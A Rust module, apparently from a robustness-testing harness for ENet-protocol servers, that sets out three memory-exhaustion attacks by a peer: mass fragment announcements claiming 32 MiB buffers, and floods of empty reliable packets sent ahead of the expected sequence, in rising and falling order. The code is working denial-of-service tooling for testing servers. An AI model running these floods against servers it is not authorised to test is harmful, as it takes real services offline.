//! Attacks on the memory of a server by a peer.

use std::io;
use std::time::Duration;

use bytes::Bytes;
use enet_sim::wire::{Body, Command, Fragment};

use super::{Context, Outcome};
use crate::pace::Pace;
use crate::puppet::Puppet;

/// The most that a receiver takes ahead of what it waits for.
const AHEAD: usize = 28_000;

/// What a server may still be busy with when an attack ends.
const PATIENCE: Duration = Duration::from_secs(5);

pub(super) fn announcements(context: &Context<'_>) -> io::Result<Outcome> {
    const COUNT: usize = 25_500;
    const TOTAL: u32 = 32 * 1024 * 1024;
    const FRAGMENT: u32 = 1364;
    let count = context.scale.count(COUNT);
    let announce = |number: usize| {
        Command::unreliable(
            0,
            0,
            Body::UnreliableFragment(Fragment {
                start: 1 + number as u16,
                count: TOTAL.div_ceil(FRAGMENT),
                number: 0,
                total: TOTAL,
                offset: 0,
                data: Bytes::from_static(b"x"),
            }),
        )
    };
    let bytes = send_all(context, 1, (0..count).map(announce), 50)?;
    Ok(Outcome::new(format!("{count} announced in {:.1} MiB", mib(bytes))))
}

pub(super) fn empty_ahead(context: &Context<'_>) -> io::Result<Outcome> {
    let count = context.scale.count(6_000_000);
    let channels = count.div_ceil(AHEAD).min(255);
    let ahead = (0..channels).flat_map(|channel| {
        (0..AHEAD).map(move |number| Command::reliable(channel as u8, number as u16 + 2, Body::Reliable(Bytes::new())))
    });
    let bytes = send_all(context, channels as u32, ahead.take(count), 220)?;
    Ok(Outcome::new(format!("{count} empty packets in {:.1} MiB", mib(bytes))))
}

pub(super) fn descending(context: &Context<'_>) -> io::Result<Outcome> {
    let count = context.scale.count(500_000);
    let channels = count.div_ceil(AHEAD).min(255);
    let ahead = (0..channels).flat_map(|channel| {
        (0..AHEAD)
            .rev()
            .map(move |number| Command::reliable(channel as u8, number as u16 + 2, Body::Reliable(Bytes::new())))
    });
    let bytes = send_all(context, channels as u32, ahead.take(count), 220)?;
    Ok(Outcome::new(format!("{count} empty packets in {:.1} MiB", mib(bytes))))
}

/// Joins, sends commands evenly over the time of the attack, and leaves when the server has worked through them. Returns how
/// many bytes that were.
fn send_all(
    context: &Context<'_>,
    channels: u32,
    commands: impl Iterator<Item = Command>,
    per_datagram: usize,
) -> io::Result<usize> {
    let mut puppet = Puppet::join(context.target, 0, channels)?;
    let mut commands = commands.peekable();
    // Some faster than the time there is, which ends it in any case.
    let mut pace = Pace::new(4000.0, context.scale.seconds(10).max(Duration::from_secs(1)));
    let mut bytes = 0;
    while let Some(turns) = pace.turns() {
        for _ in 0..turns {
            let datagram: Vec<Command> = commands.by_ref().take(per_datagram).collect();
            if datagram.is_empty() {
                break;
            }
            let datagram = puppet.datagram(puppet.peer_id, puppet.session, datagram);
            bytes += datagram.len();
            crate::sockets::send(puppet.socket(), &datagram);
        }
        puppet.listen(true);
    }
    puppet.is_alive(PATIENCE);
    puppet.leave();
    Ok(bytes)
}

fn mib(bytes: usize) -> f64 {
    bytes as f64 / 1_048_576.0
}
